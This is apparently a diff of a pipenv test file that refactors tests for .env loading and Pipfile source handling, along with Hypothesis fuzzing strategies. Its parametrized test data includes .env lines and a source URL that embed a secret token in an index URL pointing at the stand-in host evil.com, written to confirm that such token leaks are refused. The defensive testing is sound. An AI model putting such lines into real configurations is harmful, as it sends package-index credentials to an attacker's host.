@@ -215,20 +215,14 @@ def test_pipenv_dont_load_env_disables_dotenv_if_true(tmp_path: Path, word: str)
     assert ("A" in load(tmp_path, PIPENV_DONT_LOAD_ENV=word).environ) is is_loaded
 
 
-def test_pipenv_dotenv_location_names_another_file(tmp_path: Path) -> None:
+def test_pipenv_dotenv_location_names_a_file_that_may_set_pipenv_pipfile(tmp_path: Path) -> None:
+    write_pipfile(tmp_path, PYPI_SOURCE)
+    path = write_pipfile(nested(tmp_path, 1), SOURCE)
     (tmp_path / ".env").write_text("A=1\n")
     other = tmp_path / "other.env"
     assert load(tmp_path, PIPENV_DOTENV_LOCATION=str(other)).dotenv is None
-    other.write_text("A=2\n")
-    assert load(tmp_path, PIPENV_DOTENV_LOCATION=str(other)).environ["A"] == "2"
-
-
-def test_dotenv_may_set_pipenv_pipfile(tmp_path: Path) -> None:
-    write_pipfile(tmp_path, PYPI_SOURCE)
-    below = nested(tmp_path, 1)
-    path = write_pipfile(below, SOURCE)
-    (tmp_path / ".env").write_text(f"PIPENV_PIPFILE={path}\n")
-    assert load(tmp_path).pipfile == str(path)
+    other.write_text(f"PIPENV_PIPFILE={path}\n")
+    assert load(tmp_path, PIPENV_DOTENV_LOCATION=str(other)).pipfile == str(path)
 
 
 ENTRIES = {
@@ -276,15 +270,13 @@ def test_pylock_name_must_not_be_a_path(name: str, tmp_path: Path) -> None:
     assert load(tmp_path).pylock == str(tmp_path / "pylock.py3.12 dev.toml")
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
-        f"LEAK=${{{TOKEN}}}",
-        f"LEAK=x${{{TOKEN}}}",
-        f"LEAK=${{{TOKEN}:-none}}",
-        f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/",
-    ],
-)
+COPIES = [
+    *(f"LEAK=${{{TOKEN}}}", f"LEAK=x${{{TOKEN}}}", f"LEAK=${{{TOKEN}:-none}}"),
+    f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/",
+]
+
+
+@pytest.mark.parametrize("line", COPIES)
 def test_dotenv_must_not_copy_the_token(tmp_path: Path, line: str) -> None:
     foreign = PYPI_SOURCE.replace("https://pypi.org", "https://aws:${LEAK}@evil.com")
     write_pipfile(tmp_path, SOURCE, foreign)
@@ -294,12 +286,8 @@ def test_dotenv_must_not_copy_the_token(tmp_path: Path, line: str) -> None:
         project.assign_variables(project.sources())
 
 
-scalars = st.one_of(
-    st.text(),
-    st.integers(-(2**63), 2**63 - 1),
-    st.booleans(),
-    st.sampled_from(["https://x/", URL, f"${{{TOKEN}}}", "aws:${X}@", "${", "*"]),
-)
+scalars = st.text() | st.integers(-(2**63), 2**63 - 1) | st.booleans()
+scalars |= st.sampled_from(["https://x/", URL, f"${{{TOKEN}}}", "aws:${X}@", "${", "*"])
 names = st.text(min_size=1) | st.sampled_from(
     ["source", "packages", "dev-packages", "scripts", "url", "name", "file", "requires"]
 )
@@ -308,12 +296,10 @@ values = st.recursive(
     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=4),
     max_leaves=12,
 )
-documents = st.one_of(
-    st.dictionaries(names, values, max_size=5),
-    st.fixed_dictionaries(
-        {"source": st.lists(st.fixed_dictionaries({"url": scalars, "name": values}), max_size=3)},
-        optional={"packages": values, "dev-packages": values, "scripts": values, "x": values},
-    ),
+sources = st.lists(st.fixed_dictionaries({"url": scalars, "name": values}), max_size=3)
+documents = st.dictionaries(names, values, max_size=5) | st.fixed_dictionaries(
+    {"source": sources},
+    optional={"packages": values, "dev-packages": values, "scripts": values, "x": values},
 )
 
 
@@ -332,6 +318,6 @@ def test_any_toml_document_is_read_or_refused(document: dict[str, object], sourc
     is_read_or_refused(tomlkit.dumps(document).encode(), lock)
 
 
-@given(st.one_of(st.binary(), st.text().map(str.encode)), st.binary())
+@given(st.binary() | st.text().map(str.encode), st.binary())
 def test_any_bytes_are_read_or_refused(content: bytes, lock: bytes) -> None:
     is_read_or_refused(content, lock)
